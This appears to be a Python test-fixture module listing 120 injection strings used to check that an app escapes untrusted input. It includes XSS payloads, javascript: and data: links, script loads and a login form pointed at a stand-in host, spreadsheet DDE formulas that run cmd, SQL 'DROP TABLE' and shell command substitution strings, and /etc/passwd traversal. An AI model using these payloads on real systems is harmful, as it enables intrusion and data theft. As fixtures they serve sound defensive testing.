"""A hundred and twenty texts that somebody might write to make a page, a mail, a sheet or a program do something.

Each that could run would set ``window.qzx`` or open a dialog with «qzx»: no page of ours does either.
"""

from __future__ import annotations

MARK = "qzx"
RUN = f"alert('{MARK}')"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<script>window.{MARK}=1</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=//{MARK}.example/x.js></script>",
    f"<script\x0a>{RUN}</script\x0a>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</option></select><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--<img src='--><img src=x onerror={RUN}>",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"` onload=`{RUN}`",
    f"<img src=x onerror={RUN}>",
    f"<img src=`x` onerror=`{RUN}`>",
    f'<img """><script>{RUN}</script>">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><{MARK} onclick={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=data:text/html,{MARK}>",
    f"<form action=//{MARK}.example><button>Logg inn</button></form>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>{MARK}</details>",
    f"<video><source onerror={RUN}></video>",
    f"<link rel=stylesheet href=//{MARK}.example/x.css>",
    f"<style>*{{background:url(//{MARK}.example)}}</style>",
    f"<base href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.example'>",
    f"<{MARK} style=position:fixed;inset:0>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"<<script>{RUN}//<</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
)
MARKDOWN = (
    f"[Les mer](javascript:{RUN})",
    f"![bilde](x onerror={RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"<javascript:{RUN}>",
    f"[{MARK}]: javascript:{RUN}",
    f"**fet {MARK}** _kursiv_ ~~strøket~~",
    f"# Overskrift {MARK}",
    f"> sitat {MARK}",
    f"```\n<script>{RUN}</script>\n```",
    f"- [ ] <img src=x onerror={RUN}>",
    f"| {MARK} | <script>{RUN}</script> |",
    f"[**{MARK}**](//{MARK}.example)",
    f'<http://{MARK}.example/"onclick={RUN}>',
    f"http://{MARK}.example/<script>{RUN}</script>",
    f"{{{{ '{MARK}'|safe }}}}{{% debug %}}",
    f"${{{RUN}}} #{{{RUN}}} <%= {RUN} %>",
)
LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:msgbox({MARK})",
    f"data:text/html;base64,PHNjcmlwdD4={MARK}",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"//{MARK}.example/",
    f"\\\\{MARK}.example\\del",
    f"https://{MARK}.example@evil.example/",
    f"https://evil.example/?{MARK}#'\"><b>",
    f"file:///etc/passwd#{MARK}",
    f"mailto:{MARK}@example.org?bcc=alle@example.org",
    f"mailto:x@example.org%0ABcc:{MARK}@example.org",
    f"tel:+47{MARK}",
    f"../../../../etc/passwd?{MARK}",
    f"feed:javascript:{RUN}",
)
FORMULAS = (
    f'=1+1+"{MARK}"',
    f'=HYPERLINK("http://{MARK}.example";"Klikk")',
    f"=cmd|' /C calc'!{MARK}",
    f'=IMPORTXML("http://{MARK}.example";"//a")',
    f'=WEBSERVICE("http://{MARK}.example")',
    f"+1+cmd|' /C calc'!{MARK}",
    f"-1+1+cmd|' /C calc'!{MARK}",
    f"@SUM(1+1)*cmd|' /C calc'!{MARK}",
    f'\t=1+1+"{MARK}"',
    f'\r=1+1+"{MARK}"',
    f'=DDE("cmd";"/C calc";"{MARK}")',
    f"'=1+1{MARK}",
    f"=A1:{MARK}",
    f"＝1+1 {MARK}",
    f"{{=1+1}} {MARK}",
    f"1' OR '1'='1' -- {MARK}",
    f'"; DROP TABLE projects_project; -- {MARK}',
    f"$(touch /tmp/{MARK}) `id`",
    f"%s %n %d {MARK} %(navn)s {{0}} {{navn}}",
    f"\\input{{/etc/passwd}} {MARK}",
)
CONTROL = (
    f"linje\r\nBcc: {MARK}@example.org\r\n\r\nTekst",
    f"linje\nSet-Cookie: {MARK}=1",
    f"END:VEVENT\nBEGIN:VEVENT\nSUMMARY:{MARK}",
    f"tekst\nATTACH:http://{MARK}.example/x",
    f"escape \x1b[31m{MARK}\x1b[0m",
    f"klokke \x07 {MARK}",
    f"tilbake \x08\x08 {MARK}",
    f"loddrett \x0b side \x0c {MARK}",
    f"slutt \x1a {MARK}",
    f"del \x7f {MARK}",
    f"nel \x85 {MARK}",
    f"u2028 \u2028 {MARK} \u2029",
    f"rtl \u202e{MARK}\u202c",
    f"isolat \u2066{MARK}\u2069",
    f"null \u200b\u200c\u200d\ufeff {MARK}",
    f"myk\u00adbindestrek {MARK}",
    f"emoji \U0001f468\u200d\U0001f469\u200d\U0001f467 {MARK}",
    f"astral \U00020000 {MARK}",
    f"tagg \U000e0041\U000e007f {MARK}",
    f"zalgo z\u0300\u0301\u0302\u0303\u0304\u0305 {MARK}",
    f"ikke-tegn \ufffe \uffff {MARK}",
)
STRINGS = (*MARKUP, *MARKDOWN, *LINKS, *FORMULAS, *CONTROL)


def bundles(room: int, *, lines: bool) -> list[str]:
    """Return all the strings in as few texts as a field has room for; those that do not fit alone are left out."""
    between = "\n\n" if lines else " "
    found: list[str] = []
    for one in STRINGS:
        if len(one) > room:
            continue
        if found and len(found[-1]) + len(between) + len(one) <= room:
            found[-1] += between + one
        else:
            found.append(one)
    return found
